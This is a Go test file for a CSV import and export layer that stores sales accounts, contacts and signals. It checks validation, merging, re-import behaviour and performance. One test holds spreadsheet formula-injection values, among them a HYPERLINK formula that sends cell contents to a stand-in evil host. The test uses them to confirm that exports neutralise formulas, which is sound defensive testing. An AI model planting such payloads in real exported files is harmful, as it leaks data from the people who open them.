package store_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"outreachbot/store"
	"outreachbot/store/storetest"
)

func importCSV(t *testing.T, st *store.Store, kind, data string) store.CSVImport {
	t.Helper()
	res, err := st.ImportCSV(context.Background(), kind, strings.NewReader(data), store.CSVOptions{Now: time.Date(2024, 10, 8, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatalf("import %s: %v", kind, err)
	}
	return res
}

func wantErrors(t *testing.T, res store.CSVImport, want ...string) {
	t.Helper()
	var got []string
	for _, e := range res.Errors {
		got = append(got, fmt.Sprintf("%d/%s", e.Row, e.Column))
	}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("row errors = %v, want %v\n%v", got, want, res.Errors)
	}
	if res.Rejected != len(want) {
		t.Errorf("rejected %d, want %d", res.Rejected, len(want))
	}
}

const accountsCSV = "\ufeffCompany,Website,Employees,Backstage Stage,Industry,Aliases,Favourite colour\n" +
	"Nordwind Logistics,https://www.nordwind.example/,450,evaluating,logistics,Nordwind; NWL,blue\n" +
	"Okafor Health,okafor-health.example,\"1,200\",in production,healthcare,,green\n" +
	"Bad Headcount,bad.example,lots,,,,\n" +
	"Bad Stage,stage.example,10,shipping it,,,\n" +
	",empty.example,5,,,,\n" +
	"Too,Many,Fields,,,,,,\n" +
	"nordwind logistics,,,production,,,red\n"

func TestImportCSV_accountsMapsHeadersAndReportsBadRows(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		res := importCSV(t, st, store.CSVAccounts, accountsCSV)
		if res.Rows != 7 || res.Imported != 3 {
			t.Errorf("rows %d, imported %d; want 7 read, 3 written (the last merges)", res.Rows, res.Imported)
		}
		wantErrors(t, res, "4/employees", "5/stage", "6/name", "7/")
		if res.Columns["Company"] != "name" || res.Columns["Website"] != "domain" || res.Columns["Backstage Stage"] != "stage" ||
			len(res.Ignored) != 1 || res.Ignored[0] != "Favourite colour" {
			t.Errorf("header mapping = %v, ignored %v", res.Columns, res.Ignored)
		}
		var accs []store.Account
		if err := st.DB().Order("name").Find(&accs).Error; err != nil {
			t.Fatal(err)
		}
		if len(accs) != 2 {
			t.Fatalf("%d accounts, want 2: %+v", len(accs), accs)
		}
		n := accs[0]
		if n.Name != "Nordwind Logistics" || n.Domain != "nordwind.example" || n.Employees != 450 || n.Stage != store.StageProduction ||
			len(n.Aliases) != 2 || n.Source != "csv" {
			t.Errorf("merged account = %+v", n)
		}
		if accs[1].Employees != 1200 || accs[1].Stage != store.StageProduction {
			t.Errorf("second account = %+v", accs[1])
		}
	})
}

func TestImportCSV_contacts(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		res := importCSV(t, st, store.CSVContacts, "Full Name,Job Title,Company,Company Domain,Email,GitHub,DNC\n"+
			"Ada Nord,Head of Platform,Nordwind Logistics,,ada@nordwind.example,adanord,no\n"+
			"Obi Okafor,VP Engineering,,okafor-health.example,obi@okafor-health.example,,yes\n"+
			"Nobody,CTO,Unknown Corp,,x@unknown.example,,\n"+
			"Bad Mail,Engineer,Nordwind Logistics,,not-an-address,,\n"+
			"Ada Nord,Head of Platform Engineering,Nordwind Logistics,,,,\n")
		if res.Imported != 3 {
			t.Errorf("imported %d, want 3", res.Imported)
		}
		wantErrors(t, res, "4/account", "5/email")
		var cs []store.Contact
		if err := st.DB().Order("name").Find(&cs).Error; err != nil {
			t.Fatal(err)
		}
		if len(cs) != 2 {
			t.Fatalf("%d contacts, want 2", len(cs))
		}
		if cs[0].Title != "Head of Platform Engineering" || cs[0].Email != "ada@nordwind.example" || len(cs[0].Handles) != 1 || cs[0].Handles[0] != "github.com/adanord" {
			t.Errorf("merged contact = %+v", cs[0])
		}
		if !cs[1].DoNotContact {
			t.Error("do-not-contact flag lost")
		}
	})
}

func TestImportCSV_signalsIdempotentWithRowErrors(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		data := "kind,title,account,url,date,summary\n" +
			"job_posting,Nordwind hires a platform engineer,Nordwind Logistics,https://jobs.example/1,2024-10-01,Backstage and Kubernetes\n" +
			"blog_post,Okafor on their portal,Okafor Health,https://blog.example/okafor,2024-09-30T10:00:00Z,\n" +
			"github_issue,No account is fine,,https://github.com/backstage/backstage/issues/1,,\n" +
			"rumour,Unknown kind,Nordwind Logistics,,,\n" +
			"blog_post,Bad date,Nordwind Logistics,,yesterday,\n" +
			"blog_post,Unknown account,Nowhere Inc,,,\n" +
			"blog_post,Bad URL,,ftp://x,,\n" +
			"blog_post,,Nordwind Logistics,,,\n" +
			"job_posting,Nordwind hires a platform engineer (again),Nordwind Logistics,https://jobs.example/1,2024-10-01,\n"
		res := importCSV(t, st, store.CSVSignals, data)
		if res.Bulk != (d == store.Postgres) {
			t.Errorf("bulk = %v on %s", res.Bulk, d)
		}
		if res.Imported != 3 || res.Unchanged != 1 {
			t.Errorf("imported %d, unchanged %d; want 3 and 1 (the same URL twice)", res.Imported, res.Unchanged)
		}
		wantErrors(t, res, "5/kind", "6/occurred_at", "7/account", "8/url", "9/title")
		again := importCSV(t, st, store.CSVSignals, data)
		if again.Imported != 0 || again.Unchanged != 4 {
			t.Errorf("re-import: imported %d, unchanged %d; want 0 and 4", again.Imported, again.Unchanged)
		}
		var sig store.Signal
		if err := st.DB().Where("url = ?", "https://blog.example/okafor").Take(&sig).Error; err != nil {
			t.Fatal(err)
		}
		if sig.AccountID == nil || sig.OccurredAt == nil || !sig.OccurredAt.Equal(time.Date(2024, 9, 30, 10, 0, 0, 0, time.UTC)) || sig.Source != "csv" {
			t.Errorf("signal = %+v", sig)
		}
	})
}

// failingReader returns its data, then an error: a file that breaks part-way.
type failingReader struct {
	r io.Reader
}

func (f *failingReader) Read(p []byte) (int, error) {
	n, err := f.r.Read(p)
	if err == io.EOF {
		return n, errors.New("disk read error")
	}
	return n, err
}

func TestImportCSV_failedFileWritesNothing(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		ctx := context.Background()
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		var rows strings.Builder
		rows.WriteString("kind,title,account,url\n")
		for i := range 3000 {
			fmt.Fprintf(&rows, "blog_post,Post %d,Nordwind Logistics,https://blog.example/%d\n", i, i)
		}
		for _, kind := range []string{store.CSVSignals, store.CSVAccounts} {
			data := rows.String()
			if kind == store.CSVAccounts {
				data = strings.Replace(accountsCSV, "Nordwind", "Südwind", -1) + strings.Repeat("Filler Co,filler.example,1,,,,\n", 100)
			}
			_, err := st.ImportCSV(ctx, kind, &failingReader{r: strings.NewReader(data)}, store.CSVOptions{})
			if err == nil {
				t.Fatalf("%s: a file that failed part-way imported without error", kind)
			}
		}
		var n int64
		if err := st.DB().Model(&store.Signal{}).Count(&n).Error; err != nil {
			t.Fatal(err)
		}
		if n != 0 {
			t.Errorf("%d signals written by a failed file", n)
		}
		if err := st.DB().Model(&store.Account{}).Count(&n).Error; err != nil {
			t.Fatal(err)
		}
		if n != 2 {
			t.Errorf("%d accounts after a failed file, want the 2 from before", n)
		}
		_, err := st.ImportCSV(ctx, store.CSVSignals, strings.NewReader("title,url\nx,https://x\n"), store.CSVOptions{})
		if !errors.Is(err, store.ErrCSVHeader) || !strings.Contains(err.Error(), "kind") {
			t.Errorf("missing required column: %v", err)
		}
		if _, err := st.ImportCSV(ctx, store.CSVSignals, strings.NewReader(""), store.CSVOptions{}); !errors.Is(err, store.ErrCSVHeader) {
			t.Errorf("empty file: %v", err)
		}
	})
}

func TestExportCSV_roundTrips(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		ctx := context.Background()
		src := storetest.OpenSeeded(t, d)
		dst := storetest.Open(t, d)
		for _, kind := range store.CSVKinds {
			var buf bytes.Buffer
			n, err := src.ExportCSV(ctx, kind, &buf)
			if err != nil {
				t.Fatal(err)
			}
			if n == 0 {
				t.Fatalf("exported no %s", kind)
			}
			res, err := dst.ImportCSV(ctx, kind, &buf, store.CSVOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if res.Rejected != 0 || res.Imported != n {
				t.Errorf("%s: exported %d, re-imported %d, rejected %v", kind, n, res.Imported, res.Errors)
			}
		}
		for _, table := range []string{"accounts", "contacts", "signals"} {
			var a, b int64
			if err := src.DB().Table(table).Count(&a).Error; err != nil {
				t.Fatal(err)
			}
			if err := dst.DB().Table(table).Count(&b).Error; err != nil {
				t.Fatal(err)
			}
			if a != b {
				t.Errorf("%s: %d exported, %d after the round trip", table, a, b)
			}
		}
	})
}

// BenchmarkImportCSV imports, into a fresh PostgreSQL database, N accounts (100,000;
// OUTREACHBOT_BENCH_ACCOUNTS overrides), 2N contacts and 10N signals, then the same three files
// again, and the same at N/10. It reports rows/s per kind and pass, how much longer 10x the rows
// took (ratio-<kind>), and the CPU each row of the first pass at N cost in this process
// (<kind>-client-us/row) and in the database's server processes (<kind>-pg-us/row, read from
// /proc when PostgreSQL runs on this machine), and how much more CPU 10x the rows took
// (cpu-ratio-<kind>): on a busy machine the wall-clock figures say more about the other work
// than about the import, the CPU figures much less. scripts/bench-csv.sh
// checks the budgets: ≥ 50,000 rows/s per kind, the re-import as fast, 10x the rows ≤ 12x the
// time.
func BenchmarkImportCSV(b *testing.B) {
	n := 100_000
	if v := os.Getenv("OUTREACHBOT_BENCH_ACCOUNTS"); v != "" {
		fmt.Sscan(v, &n)
	}
	ctx := context.Background()
	for i := 0; i < b.N; i++ {
		small := benchImport(ctx, b, n/10)
		full := benchImport(ctx, b, n)
		for _, kind := range store.CSVKinds {
			b.ReportMetric(full.rate(kind, 0), kind+"-rows/s")
			b.ReportMetric(full.rate(kind, 1), kind+"-reimport-rows/s")
			b.ReportMetric(full.took[kind][0].Seconds()/small.took[kind][0].Seconds(), "ratio-"+kind)
			b.ReportMetric(full.cpu(kind).Seconds()/small.cpu(kind).Seconds(), "cpu-ratio-"+kind)
			b.ReportMetric(full.perRow(kind, full.client), kind+"-client-us/row")
			if full.server[kind] > 0 {
				b.ReportMetric(full.perRow(kind, full.server), kind+"-pg-us/row")
			}
		}
	}
}

type importTimes struct {
	rows map[string]int
	took map[string][2]time.Duration
	// client and server are the CPU time the first pass of each kind took in this process and
	// in the database's server processes.
	client, server map[string]time.Duration
}

// cpu is the CPU time, this process's and the database's, of the first pass of kind.
func (t importTimes) cpu(kind string) time.Duration { return t.client[kind] + t.server[kind] }

func (t importTimes) perRow(kind string, cpu map[string]time.Duration) float64 {
	return float64(cpu[kind].Microseconds()) / float64(t.rows[kind])
}

func (t importTimes) rate(kind string, pass int) float64 {
	return float64(t.rows[kind]) / t.took[kind][pass].Seconds()
}

// benchImport imports n accounts, 2n contacts and 10n signals twice into a fresh database.
func benchImport(ctx context.Context, b *testing.B, n int) importTimes {
	b.StopTimer()
	defer b.StartTimer()
	st := storetest.Open(b, store.Postgres)
	files := map[string][]byte{store.CSVAccounts: benchAccounts(n), store.CSVContacts: benchContacts(n), store.CSVSignals: benchSignals(10*n, n)}
	t := importTimes{rows: map[string]int{store.CSVAccounts: n, store.CSVContacts: 2 * n, store.CSVSignals: 10 * n}, took: map[string][2]time.Duration{},
		client: map[string]time.Duration{}, server: map[string]time.Duration{}}
	for pass := 0; pass < 2; pass++ {
		for _, kind := range store.CSVKinds {
			client, server := processCPU(), serverCPU(ctx, b, st)
			start := time.Now()
			res, err := st.ImportCSV(ctx, kind, bytes.NewReader(files[kind]), store.CSVOptions{})
			el := time.Since(start)
			if pass == 0 {
				t.client[kind], t.server[kind] = processCPU()-client, serverCPU(ctx, b, st).since(server)
			}
			if err != nil {
				b.Fatal(err)
			}
			want := [2]int{res.Imported, res.Unchanged}
			if want != [2]int{t.rows[kind] * (1 - pass), t.rows[kind] * pass} || res.Rejected != 0 || !res.Bulk {
				b.Fatalf("%s pass %d: %d rows imported, %d unchanged, %d rejected %v", kind, pass+1, res.Imported, res.Unchanged, res.Rejected, res.Errors)
			}
			d := t.took[kind]
			d[pass] = el
			t.took[kind] = d
			b.Logf("%s: %d rows in %s (%.0f rows/s), pass %d", kind, t.rows[kind], el.Round(time.Millisecond), float64(t.rows[kind])/el.Seconds(), pass+1)
		}
	}
	return t
}

// processCPU is the CPU time this process has used.
func processCPU() time.Duration {
	var ru syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &ru) != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// serverCPUs is the CPU time of each PostgreSQL server process serving st's database.
type serverCPUs map[int]time.Duration

// serverCPU reads the CPU time of st's server processes from /proc; empty when the server runs
// elsewhere.
func serverCPU(ctx context.Context, b *testing.B, st *store.Store) serverCPUs {
	rows, err := st.SQL().QueryContext(ctx, "SELECT pid FROM pg_stat_activity WHERE datname = current_database()")
	if err != nil {
		b.Fatal(err)
	}
	defer rows.Close()
	out := serverCPUs{}
	for rows.Next() {
		var pid int
		if err := rows.Scan(&pid); err != nil {
			b.Fatal(err)
		}
		stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			continue
		}
		// utime and stime are fields 14 and 15, counted after the command's closing parenthesis.
		f := strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:]))
		var user, sys int64
		if len(f) > 12 {
			fmt.Sscan(f[11], &user)
			fmt.Sscan(f[12], &sys)
		}
		out[pid] = time.Duration(user+sys) * time.Second / 100 // clock ticks: 100 per second on Linux
	}
	if err := rows.Err(); err != nil {
		b.Fatal(err)
	}
	return out
}

// since is the CPU time used after before (a process that started since counts in full).
func (c serverCPUs) since(before serverCPUs) time.Duration {
	var d time.Duration
	for pid, t := range c {
		d += t - before[pid]
	}
	return d
}

var benchIndustries = []string{"financial services", "healthcare", "manufacturing", "retail", "travel", "media", "software", "logistics"}

func benchAccountName(i int) string { return fmt.Sprintf("Nordwind %d Logistics", i) }

func benchAccounts(n int) []byte {
	var buf bytes.Buffer
	buf.WriteString("name,domain,aliases,industry,employees,region,stage\n")
	for i := range n {
		fmt.Fprintf(&buf, "%s,nordwind%d.example,NWL %d,%s,%d,London,evaluating\n", benchAccountName(i), i, i, benchIndustries[i%len(benchIndustries)], 50+i%9950)
	}
	return buf.Bytes()
}

func benchContacts(n int) []byte {
	var buf bytes.Buffer
	buf.WriteString("account,name,title,email\n")
	for i := range n {
		for j := range 2 {
			fmt.Fprintf(&buf, "%s,Person %d-%d,Head of Platform Engineering,p%d.%d@nordwind%d.example\n", benchAccountName(i), i, j, i, j, i)
		}
	}
	return buf.Bytes()
}

// benchSignals makes a realistic signals CSV of n rows over the accounts of benchAccounts(accounts).
func benchSignals(n, accounts int) []byte {
	kinds := []string{"job_posting", "github_issue", "github_pr", "blog_post", "conference_talk", "community_post"}
	var buf bytes.Buffer
	buf.Grow(n * 190)
	buf.WriteString("account,kind,title,summary,url,person,occurred_at\n")
	day := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := range n {
		fmt.Fprintf(&buf, "%s,%s,Signal %d about the developer portal,\"Platform team, Backstage and Kubernetes; item %d\",https://signals.example/%d,Person %d,%s\n",
			benchAccountName(i%accounts), kinds[i%len(kinds)], i, i, i, i%5000, day.Add(time.Duration(i%525600)*time.Minute).Format(time.RFC3339))
	}
	return buf.Bytes()
}

// accountsAndContacts imports the test accounts and a few contacts, and returns the files.
func accountsAndContacts(t *testing.T, st *store.Store) (accounts, contacts string) {
	t.Helper()
	contacts = "Full Name,Job Title,Company,Email,GitHub,DNC,Rank\n" +
		"Ada Nord,Head of Platform,Nordwind Logistics,ada@nordwind.example,adanord,no,\n" +
		"Obi Okafor,VP Engineering,Okafor Health,obi@okafor-health.example,,yes,2\n" +
		"Ada Nord,,Nordwind,,,,1\n"
	importCSV(t, st, store.CSVAccounts, accountsCSV)
	importCSV(t, st, store.CSVContacts, contacts)
	return accountsCSV, contacts
}

func TestImportCSV_reimportChangesNothing(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		accounts, contacts := accountsAndContacts(t, st)
		var before []store.Account
		if err := st.DB().Order("id").Find(&before).Error; err != nil {
			t.Fatal(err)
		}
		var contactsBefore []store.Contact
		if err := st.DB().Order("id").Find(&contactsBefore).Error; err != nil {
			t.Fatal(err)
		}
		if len(contactsBefore) != 2 || contactsBefore[0].DecisionRank != 1 || contactsBefore[0].Title != "Head of Platform" || !contactsBefore[1].DoNotContact {
			t.Fatalf("contacts after the first import = %+v", contactsBefore)
		}
		a := importCSV(t, st, store.CSVAccounts, accounts)
		if a.Imported != 0 || a.Unchanged != 3 {
			t.Errorf("accounts re-import: %d imported, %d unchanged; want 0 and 3", a.Imported, a.Unchanged)
		}
		c := importCSV(t, st, store.CSVContacts, contacts)
		if c.Imported != 0 || c.Unchanged != 3 {
			t.Errorf("contacts re-import: %d imported, %d unchanged; want 0 and 3", c.Imported, c.Unchanged)
		}
		var after []store.Account
		if err := st.DB().Order("id").Find(&after).Error; err != nil {
			t.Fatal(err)
		}
		if len(after) != len(before) {
			t.Fatalf("%d accounts after the re-import, %d before", len(after), len(before))
		}
		for i := range after {
			if !after[i].UpdatedAt.Equal(before[i].UpdatedAt) || strings.Join(after[i].Aliases, ";") != strings.Join(before[i].Aliases, ";") {
				t.Errorf("re-import touched %s: %+v → %+v", after[i].Name, before[i], after[i])
			}
		}
	})
}

func TestImportCSV_accountsMergeByDomainThenName(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		res := importCSV(t, st, store.CSVAccounts, "name,domain,industry,hq\n"+
			"NWL Group,nordwind.example,freight,\n"+ // same domain: merges, the name becomes an alias
			"Okafor Health,,,Lagos\n"+ // same name: merges
			"Okafor Health,nordwind.example,,\n"+ // the name is Okafor's, the domain Nordwind's: refused
			"Fresh Co,fresh.example,,\n"+
			"fresh co,,retail,\n") // the same new account twice
		wantErrors(t, res, "4/domain")
		if res.Imported != 4 {
			t.Errorf("imported %d rows, want 4", res.Imported)
		}
		var accs []store.Account
		if err := st.DB().Order("name").Find(&accs).Error; err != nil {
			t.Fatal(err)
		}
		if len(accs) != 3 {
			t.Fatalf("%d accounts, want 3: %+v", len(accs), accs)
		}
		fresh, nord, oka := accs[0], accs[1], accs[2]
		if fresh.Name != "Fresh Co" || fresh.Domain != "fresh.example" || fresh.Industry != "retail" {
			t.Errorf("new account = %+v", fresh)
		}
		if nord.Industry != "freight" || !slices.Contains(nord.Aliases, "NWL Group") || nord.Name != "Nordwind Logistics" {
			t.Errorf("merged by domain = %+v", nord)
		}
		if oka.HQ != "Lagos" || oka.Domain != "okafor-health.example" {
			t.Errorf("merged by name = %+v", oka)
		}
	})
}

func TestImportCSV_fieldsCheckedBeforeWriting(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		data := "kind,title,account,url,summary\n" +
			"blog_post,Good one,Nordwind Logistics,https://blog.example/1,\n" +
			"blog_post,Has a NUL \x00 byte,Nordwind Logistics,https://blog.example/2,\n" +
			"blog_post,Bad bytes,Nordwind Logistics,https://blog.example/3,caf\xe9\n" +
			"blog_post,Too long,Nordwind Logistics,https://blog.example/4," + strings.Repeat("x", 10_001) + "\n" +
			"blog_post,\"A quoted\nmulti-line title\",Nordwind Logistics,https://blog.example/5,\n" +
			"blog_post,Last good one,Nordwind Logistics,https://blog.example/6,\n"
		res := importCSV(t, st, store.CSVSignals, data)
		wantErrors(t, res, "3/title", "4/summary", "5/summary")
		if res.Imported != 3 {
			t.Errorf("imported %d, want the 3 good rows", res.Imported)
		}
		for _, e := range res.Errors {
			if e.Row == 3 && !strings.Contains(e.Reason, "NUL") || e.Row == 4 && !strings.Contains(e.Reason, "UTF-8") ||
				e.Row == 5 && !strings.Contains(e.Reason, "10,000") {
				t.Errorf("reason: %s", e)
			}
		}
		acc := importCSV(t, st, store.CSVAccounts, "name,domain,notes\nGood Co,good.example,\nNul\x00 Co,nul.example,\n")
		wantErrors(t, acc, "3/name")
		var n int64
		if err := st.DB().Model(&store.Account{}).Where("name LIKE ?", "Nul%").Count(&n).Error; err != nil || n != 0 {
			t.Errorf("an account with a NUL byte was stored (%d, %v)", n, err)
		}
	})
}

// newHugeFieldReader streams a signals file whose third line opens a quoted field of size bytes
// spanning many lines, followed by a good row and a bad one, without ever holding the field.
func newHugeFieldReader(size int) io.Reader {
	return io.MultiReader(
		strings.NewReader("kind,title,account,summary\nblog_post,Before,Nordwind Logistics,\nblog_post,Huge,Nordwind Logistics,\""),
		io.LimitReader(&repeatReader{s: "word word word word word word word word word word word word word word\n"}, int64(size)),
		strings.NewReader("\"\nblog_post,After,Nordwind Logistics,\nblog_post,Bad \x00,Nordwind Logistics,\n"))
}

// repeatReader repeats s forever.
type repeatReader struct {
	s   string
	off int
}

func (r *repeatReader) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		c := copy(p[n:], r.s[r.off:])
		n += c
		r.off = (r.off + c) % len(r.s)
	}
	return n, nil
}

func TestImportCSV_hugeFieldRefusedWithoutHoldingIt(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		const size = 60 << 20
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		res, err := st.ImportCSV(context.Background(), store.CSVSignals, newHugeFieldReader(size), store.CSVOptions{})
		runtime.ReadMemStats(&after)
		if err != nil {
			t.Fatal(err)
		}
		// The huge field starts on line 3 and spans size/70 lines: the rows after it keep the
		// file's line numbers.
		lines := size/70 + 1
		wantErrors(t, res, "3/summary", fmt.Sprintf("%d/title", 3+lines+1))
		if res.Imported != 2 {
			t.Errorf("imported %d, want the 2 good rows", res.Imported)
		}
		if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 32<<20 {
			t.Errorf("a %d MB field cost %d MB of allocations; it should be skipped, not held", size>>20, alloc>>20)
		}
	})
}

func TestImportCSV_refusesAFileOfAnotherKind(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		ctx := context.Background()
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		accounts := "name,domain,industry,employees,region\nGlobex Bank,globex.example,financial services,5000,London\n"
		signals := "account,kind,title,url\nNordwind Logistics,blog_post,A post,https://blog.example/x\n"
		for _, c := range []struct{ kind, data, looks string }{
			{store.CSVContacts, accounts, "accounts"},
			{store.CSVSignals, accounts, "accounts"},
			{store.CSVAccounts, signals, "signals"},
			{store.CSVContacts, signals, "signals"},
		} {
			_, err := st.ImportCSV(ctx, c.kind, strings.NewReader(c.data), store.CSVOptions{})
			if !errors.Is(err, store.ErrCSVHeader) || !strings.Contains(err.Error(), "looks like a file of "+c.looks) ||
				!strings.Contains(err.Error(), "--kind "+c.looks) {
				t.Errorf("%s file imported as %s: %v", c.looks, c.kind, err)
			}
		}
		for table, want := range map[string]int64{"accounts": 2, "contacts": 0, "signals": 0} {
			var n int64
			if err := st.DB().Table(table).Count(&n).Error; err != nil || n != want {
				t.Errorf("%s: %d rows (%v), want %d: a refused file wrote something", table, n, err, want)
			}
		}
	})
}

// TestExportCSV_neutralisesFormulas: a stored value a spreadsheet would run as a formula is
// exported as text ('=…) and comes back unchanged on import.
func TestExportCSV_neutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1 boss", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		src := storetest.Open(t, d)
		var in bytes.Buffer
		w := csv.NewWriter(&in)
		w.Write([]string{"name", "domain", "industry"})
		for i, h := range hostile {
			w.Write([]string{fmt.Sprintf("Formula %d", i), fmt.Sprintf("formula%d.example", i), h})
		}
		w.Flush()
		csvIn := in.String()
		if res := importCSV(t, src, store.CSVAccounts, csvIn); res.Rejected != 0 {
			t.Fatalf("import: %v", res.Errors)
		}
		var out bytes.Buffer
		if _, err := src.ExportCSV(ctx, store.CSVAccounts, &out); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("exported cell %q would run as a formula", cell)
				}
			}
		}
		dst := storetest.Open(t, d)
		if res, err := dst.ImportCSV(ctx, store.CSVAccounts, &out, store.CSVOptions{}); err != nil || res.Rejected != 0 {
			t.Fatalf("re-import: %v %v", err, res.Errors)
		}
		var got []string
		dst.DB().Table("accounts").Order("name").Pluck("industry", &got)
		for i, h := range hostile {
			if want := strings.TrimSpace(h); i >= len(got) || got[i] != want {
				t.Errorf("industry %d after the round trip = %q, want %q", i, got, want)
			}
		}
	})
}

func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx", "Acme": "Acme", "": "", "'quoted": "'quoted"} {
		if got := store.SpreadsheetSafe(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// TestImportCSV_ownerMustBeASlackUserID: an owner that is not a user id is a row error, never a
// mention waiting to happen.
func TestImportCSV_ownerMustBeASlackUserID(t *testing.T) {
	st := storetest.Open(t, store.SQLite)
	res := importCSV(t, st, store.CSVAccounts, "name,owner_user_id\nGood,U0123ABC\nBad,<!channel>\nWorse,<@U1|x>\n")
	wantErrors(t, res, "3/owner_user_id", "4/owner_user_id")
}
